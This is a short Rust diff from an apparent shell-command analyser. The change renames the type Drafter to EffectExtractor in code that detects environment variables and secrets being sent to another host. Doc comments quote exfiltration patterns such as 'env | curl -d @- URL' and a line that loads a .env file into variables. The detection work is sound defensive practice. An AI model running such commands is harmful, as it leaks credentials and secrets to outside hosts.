@@ -1,13 +1,13 @@
 //! The whole environment, and keys that a service gives out, on their way to another host: what prints them, and what
 //! sends what was printed.
 
-use super::effects::{Drafter, Ran, with_sources};
+use super::effects::{EffectExtractor, Ran, with_sources};
 use crate::model::effect::{Effect, EffectKind, Target};
 use crate::text::url;
 use reflex_shell::{Command, CommandId, Origin, Piece, Value, WHOLE_ENVIRONMENT};
 use std::collections::BTreeSet;
 
-impl Drafter<'_> {
+impl EffectExtractor<'_> {
     /// `env | curl -d @- URL`, `curl -d "$(env)" URL`: as if a file with all variables were sent.
     pub(super) fn environment_sent(&mut self, before: usize, commands: &[Command]) {
         self.revealed_sent(before, commands);
@@ -38,7 +38,7 @@ impl Drafter<'_> {
     }
 }
 
-impl Drafter<'_> {
+impl EffectExtractor<'_> {
     /// `export $(grep -v '^#' .env | xargs)`: what is read goes into variables, and is shown to nobody.
     pub(super) fn kept_in_variables(&mut self, before: usize, commands: &[Command]) {
         const DECLARING: [&str; 4] = ["export", "declare", "readonly", "typeset"];
